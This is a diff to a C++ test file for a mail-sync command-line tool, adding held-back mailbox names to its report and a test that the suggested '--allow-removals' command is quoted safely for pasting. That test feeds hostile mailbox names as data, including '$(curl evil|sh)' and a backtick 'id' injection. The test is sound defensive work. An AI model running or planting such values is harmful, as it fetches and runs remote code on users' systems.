@@ -32,6 +32,7 @@ TEST_CASE("the report has a line an endpoint, totals and what needs a hand", "[c
   run.endpoints = {endpoint("work", 12, 0.4), endpoint("isp", 0, 0.2)};
   run.endpoints[0].counts.flags = 3;
   run.endpoints[0].counts.held = 40;
+  run.endpoints[0].heldMailboxes = {"INBOX"};
   run.endpoints[0].notes = {"Sent was renamed to Gesendet"};
   run.endpoints[1].problems = {
       {ErrorKind::Refused, Retry::Never, "", "the password was refused; change password_command"}};
@@ -43,8 +44,24 @@ TEST_CASE("the report has a line an endpoint, totals and what needs a hand", "[c
   CHECK(reportLines(run) == Lines{"work    12 new, 3 flags, 40 held back   1.2 MB in 0.4 s",
                                   "isp     nothing done, not complete      1.2 MB in 0.2 s",
                                   "total   12 new, 3 flags, 40 held back   2.4 MB in 0.5 s",
-                                  "work: Sent was renamed to Gesendet"});
+                                  "work: Sent was renamed to Gesendet",
+                                  "work: 40 removals held back; look, and if they are meant, run: mailbraid sync "
+                                  "--allow-removals work:INBOX"});
   CHECK(problemLines(run) == Lines{"isp: the password was refused; change password_command"});
+}
+
+TEST_CASE("P7: the command that lets held removals go is harmless to paste, whatever a server calls its mailboxes",
+          "[cli][report]") {
+  RunReport run;
+  run.endpoints = {endpoint("work", 0, 1)};
+  run.endpoints[0].counts.held = 60;
+  run.endpoints[0].heldMailboxes = {"$(curl evil|sh)", "it's `id`\n; x"};
+  const std::string told = " 60 removals held back; look, and if they are meant, run: mailbraid sync --allow-removals ";
+  CHECK(reportLines(run).back() == "work:" + told +
+                                       "'work:$(curl evil|sh)' --allow-removals 'work:it'\\''s "
+                                       "`id` ; x'");
+  run.endpoints[0].heldMailboxes.assign(6, "many");
+  CHECK(reportLines(run).back() == "work:" + told + "work");
 }
 
 TEST_CASE("nothing to do is said plainly", "[cli][report]") {
@@ -93,7 +110,7 @@ TEST_CASE("sync --json has the counts that were promised", "[cli][report]") {
       endpointJson(report).text() ==
       R"({"endpoint":"work","new":12,"adopted":0,"flags":0,"moved":0,"removed":0,"held":0,"quarantined":0,"bytes_in":1200000,)"
       R"("bytes_out":0,"round_trips":5,"seconds":0.400,"mailboxes":0,"mailboxes_read":0,"problems":[{"mailbox":"INBOX",)"
-      R"("kind":"protocol","retry":"later","sentence":"said \"no\""}],"notes":[],"exit_code":76})");
+      R"("kind":"protocol","retry":"later","sentence":"said \"no\""}],"notes":[],"held_mailboxes":[],"exit_code":76})");
   RunReport run;
   run.endpoints = {report};
   run.run = mailbraid::mailstore::RunId{7};
